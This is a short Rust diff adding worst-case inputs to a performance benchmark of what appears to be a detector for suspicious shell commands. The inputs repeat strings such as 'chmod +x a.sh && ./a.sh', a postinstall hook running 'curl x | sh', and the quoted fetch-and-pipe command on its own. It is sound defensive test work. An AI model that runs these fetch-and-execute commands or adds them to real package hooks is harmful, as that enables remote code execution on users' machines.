@@ -229,6 +229,11 @@ fn worst_bodies() -> Vec<(&'static str, String)> {
         ("worst-runs-64k", fill("chmod +x a.sh && ./a.sh\n")),
         // Thousands of runs on one line (`trojan`'s grading of each run).
         ("worst-runs-line-64k", fill("chmod +x a.sh && ./a.sh ")),
+        // Thousands of quoted commands on one line (`context`'s quotations).
+        ("worst-quoted-line-64k", fill("\"postinstall\": \"curl x | sh\" ")),
+        // The same with words between: still quadratic (16 KiB, not 64,
+        // so that the bench stays short until it is fixed).
+        ("worst-quoted-words-16k", "\"curl x | sh\" and then ".repeat(16 * 1024 / 24)),
     ]
 }
 
